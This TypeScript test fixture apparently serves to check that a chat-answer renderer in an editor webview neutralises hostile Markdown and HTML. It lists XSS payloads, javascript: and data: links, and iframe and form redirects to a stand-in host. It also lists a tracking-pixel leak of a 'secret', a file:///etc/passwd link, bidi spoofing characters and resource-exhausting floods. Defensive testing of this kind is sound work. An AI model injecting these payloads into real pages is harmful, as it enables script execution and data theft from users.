/** Answers that try to be more than text. `ran()` is what the page would call if one of them could. */
export const hostileAnswers: Record<string, string> = {
  script: '<script>ran()</script>\n\nBefore <script src="https://hostile.example/a.js"></script> after',
  handlers: '<img src=x onerror=ran()> <svg onload=ran()> <body onload=ran()> <details open ontoggle=ran()> <input autofocus onfocus=ran()>',
  frames: '<iframe src="https://hostile.example/"></iframe><iframe srcdoc="<script>parent.ran()</script>"></iframe><object data="https://hostile.example/"></object><embed src="https://hostile.example/">',
  forms: '<form action="https://hostile.example/"><input name=q><button>send</button></form><meta http-equiv="refresh" content="0;url=https://hostile.example/"><base href="https://hostile.example/">',
  styles: '<style>@import url(https://hostile.example/a.css); body { display: none }</style><link rel=stylesheet href=https://hostile.example/a.css><p style="position:fixed;inset:0">over</p>',
  'command links': '[run](command:workbench.action.terminal.new) <command:workbench.action.quit> [ref][c]\n\n[c]: command:workbench.action.quit',
  'script links': '[a](javascript:ran()) [b](JaVaScRiPt:ran()) [c](&#106;avascript:ran()) [d]( javascript:ran()) <javascript:ran()> [e](vbscript:ran())',
  'data links': '[a](data:text/html,<script>ran()</script>) [b](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)',
  'web links': 'https://hostile.example/ www.hostile.example <https://hostile.example/> [a](https://hostile.example/ "title") [b](file:///etc/passwd) [c](vscode://settings) mail@hostile.example',
  images: '![a](https://hostile.example/pixel.png?q=secret) ![b](data:image/svg+xml,<svg onload=ran()>) [![c](https://hostile.example/c.png)](https://hostile.example/)',
  'closing tags': '</div></main></body></html><script>ran()</script> --><script>ran()</script> ]]> \'"><script>ran()</script>',
  'code that closes itself': '```"><img src=x onerror=ran()>\n</code></pre><script>ran()</script>\n```\n\n`</code><script>ran()</script>`',
  'a table of HTML': '| <b onclick=ran()>a</b> | b |\n| --- | --- |\n| <img src=x onerror=ran()> | ![x](https://hostile.example/x.png) |',
  'control characters': 'a\0b\u0007\u001b[31mred\u001b[0m\u001b]8;;https://hostile.example/\u001b\\link \u0008\u009b1m \u007f',
  'reading direction': 'if access != "user\u202e \u2066# admin\u2069 \u2066": \u200b\u200e\u2028\u2029\ufeff',
  'half characters': '\ud800 \udc00 \ufffd',
  'instructions to the page': '{"type":"state","history":[],"answer":null} postMessage({type:"clear"}) acquireVsCodeApi().postMessage({type:"stop"})',
  'a template': '{{constructor.constructor("ran()")()}} ${ran()} <%= ran() %>',
};

/** Answers that are large or deep: what is shown of them must come up, and the page answer afterwards. */
export const floodingAnswers: Record<string, string> = {
  'one line': 'x'.repeat(200_000),
  'one line of code': '```\n' + 'x'.repeat(199_000),
  'quotes in quotes': '>'.repeat(10_000) + ' deep',
  'quotes in quotes, line by line': '> '.repeat(10_000) + 'deep',
  brackets: '['.repeat(10_000) + ']'.repeat(10_000),
  'emphasis in emphasis': '*a '.repeat(10_000) + 'x* '.repeat(10_000),
  'many items': '- a\n'.repeat(50_000),
  'many fences': '```\na\n```\n'.repeat(10_000),
  'many lines': 'a\n'.repeat(100_000),
  'hidden characters': '\u202e'.repeat(20_000),
  'piled marks': 'a' + '\u0301'.repeat(100_000),
};
